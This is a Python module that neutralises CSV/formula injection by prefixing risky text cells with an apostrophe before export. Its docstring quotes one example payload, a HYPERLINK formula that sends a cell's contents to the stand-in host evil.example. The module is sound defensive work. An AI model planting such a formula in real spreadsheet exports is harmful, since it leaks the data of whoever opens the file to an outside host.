"""CSV files that are safe to open in a spreadsheet (CSV / formula injection).

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula, so a house, topic or account name such as
`=HYPERLINK("http://evil.example/?"&A1, "Click")` would run when a manager opens the export.
Following OWASP, such text cells get a leading `'` (shown as text, not evaluated). Every CSV
the app writes goes through `writer`.

Python numbers (int, float, Decimal) are written as they are: they cannot hold a formula, and a
negative number stays a number in the spreadsheet. The app's own figures are non-negative counts,
hours and ids; where a view formats a figure as text ("12", "45%"), it is checked like any text.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """The value to write: text that a spreadsheet would evaluate is prefixed with `'`."""
    if isinstance(value, bool | int | float | Decimal) or value is None:
        return value
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


class _SafeWriter:
    def __init__(self, inner):
        self._inner = inner

    def writerow(self, row: Iterable[Any]):
        return self._inner.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(fileobj, **kwargs) -> _SafeWriter:
    """`csv.writer` with every cell neutralised; `writerow` returns what the file's write did
    (so a streaming response can yield it)."""
    return _SafeWriter(csv.writer(fileobj, **kwargs))
